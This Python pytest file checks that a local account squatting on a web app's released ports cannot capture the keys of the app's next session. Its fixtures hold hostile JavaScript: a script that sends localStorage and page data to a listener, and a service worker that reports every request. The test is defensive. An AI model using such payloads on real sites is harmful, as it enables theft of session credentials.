"""Another account of the machine, which listens where one's own server was, gets nothing of the next one."""

from __future__ import annotations

import asyncio
import re
import signal
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from aiohttp import web
from playwright.async_api import Browser
from yarl import URL

from tests.people import copy_store
from tests.web.browser.window import Window
from tests.web.browser_line import opened, read_end
from tests.web.served import Served, ask, key_in, serve_whole

pytestmark = pytest.mark.asyncio(loop_scope="session")

PAGE = """<!DOCTYPE html><div id="terminal"></div><script src="/static/page.js"></script>
<script>navigator.serviceWorker.register("/sw.js")</script>"""
SCRIPT = """const told = JSON.stringify([document.getElementById("terminal").dataset, localStorage]);
fetch("{ear}script", {{ method: "POST", mode: "no-cors", body: told }});
// Our page forbids it to ask elsewhere: it goes there. It stays on its own page.
if (location.pathname === "/") location.href = "{ear}page?" + encodeURIComponent(told);"""
WORKER = """self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(clients.claim()));
self.addEventListener("fetch", (event) => {{
  fetch("{ear}worker?" + event.request.url, {{ mode: "no-cors" }});
}});"""
FOR_A_YEAR = {"Cache-Control": "public, max-age=31536000, immutable"}


class OtherAccount:
    """Answers any request with what would tell it the keys of who comes next, and keeps all that it hears."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        application = web.Application()
        application.router.add_route("*", "/{path:.*}", self._answer)
        self._runner = web.AppRunner(application)
        self._ear = ""

    @asynccontextmanager
    async def listening(self) -> AsyncIterator[None]:
        """Hear what is told to it, for as long as the test lasts."""
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        await site.start()
        self._ear = f"http://127.0.0.1:{self._runner.addresses[0][1]}/"
        yield
        await self._runner.cleanup()

    @asynccontextmanager
    async def in_place_of(self, *urls: URL) -> AsyncIterator[None]:
        """Listen at those addresses, which nobody has any more."""
        sites = [web.TCPSite(self._runner, url.host, url.port, reuse_address=True) for url in urls]
        for site in sites:
            await site.start()
        yield
        for site in sites:
            await site.stop()

    async def _answer(self, request: web.Request) -> web.Response:
        self.heard.append(f"{request.url} {await request.text()}")
        if request.path == "/sw.js":
            return web.Response(text=WORKER.format(ear=self._ear), content_type="text/javascript")
        if request.path.startswith("/static/"):
            script = SCRIPT.format(ear=self._ear)
            return web.Response(text=script, content_type="text/javascript", headers=FOR_A_YEAR)
        return web.Response(text=PAGE, content_type="text/html")


async def start(home: Path, base: Path) -> tuple[Served, list[URL]]:
    """Start one's own server; returns it, and the addresses that it prints."""
    served = serve_whole(home, "--base", str(base), "--agent", "DM", "--au", "2018-05-22")
    lines = [await asyncio.to_thread(served.read_line) for _ in range(4)]
    return served, [*map(URL, re.findall(r"http://\S+", "".join(lines)))]


async def end(served: Served) -> None:
    served.process.send_signal(signal.SIGINT)
    assert await asyncio.to_thread(served.close) == 0


async def test_who_listened_at_the_last_addresses_gets_nothing_of_the_next_start(
    chromium: Browser, master_store: Path, tmp_path: Path
) -> None:
    base, other = copy_store(master_store, tmp_path), OtherAccount()
    context = await chromium.new_context()
    async with other.listening():
        served, (printed, _, agenda) = await start(tmp_path, base)
        window = Window(await context.new_page())
        await window.page.goto(str(printed))
        await window.shows("DM au ")
        old = await window.page.evaluate("localStorage.getItem('cle')")
        await end(served)
        # A tab that is reopened, then a diary, come to who listens there now.
        async with other.in_place_of(printed, agenda):
            await window.page.goto(f"{printed.origin()}/rouvrir")
            await window.page.evaluate("navigator.serviceWorker.ready.then(() => 0)")
            await asyncio.to_thread(ask, agenda.port or 0, agenda.path_qs)
        assert [one for one in other.heard if agenda.query["cle"] in one]
        assert [one for one in other.heard if "/script" in one]
        other.heard.clear()
        served, (printed, pages, again) = await start(tmp_path, base)
        assert again == agenda
        window = Window(await context.new_page())
        await window.page.goto(str(printed))
        await window.shows("DM au ")
        link = window.page.get_by_role("link", name="pages simples")
        assert await link.get_attribute("href") == pages.path
        assert await window.page.evaluate("navigator.serviceWorker.controller") is None
        assert other.heard == []
        # What it heard before opens no session and no page.
        host, port, headers = printed.host or "", printed.port or 0, {"Origin": str(printed.origin())}
        for key in (old, agenda.query["cle"]):
            async with opened(port, key, headers=headers, host=host) as socket:
                assert (await read_end(socket))[0] == 4004
            refused = await asyncio.to_thread(ask, port, f"/pages/{key}/semaine", host=host)
            assert refused.status == 403
        page = await asyncio.to_thread(ask, port, f"/?jeton={agenda.query['cle']}", host=host)
        assert key_in(page.text) == ""
        await context.close()
        await end(served)
